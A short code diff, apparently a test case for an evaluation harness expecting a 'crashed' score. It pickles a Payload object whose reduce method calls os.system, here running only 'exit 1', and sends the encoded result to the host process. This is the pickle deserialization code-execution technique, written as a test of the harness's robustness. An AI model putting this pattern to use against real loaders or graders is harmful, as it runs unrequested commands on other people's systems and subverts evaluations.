@@ -3,8 +3,11 @@
 Scores: crashed
 """
 
+import base64
 import os
 import pickle
+
+import __main__
 
 
 class Payload:
@@ -12,6 +15,5 @@ class Payload:
         return os.system, ("exit 1",)
 
 
-with open("logits.bin", "wb") as file:
-    pickle.dump(Payload(), file)
+os.write(__main__.host, b"logits " + base64.b64encode(pickle.dumps(Payload())) + b"\n")
 os._exit(0)
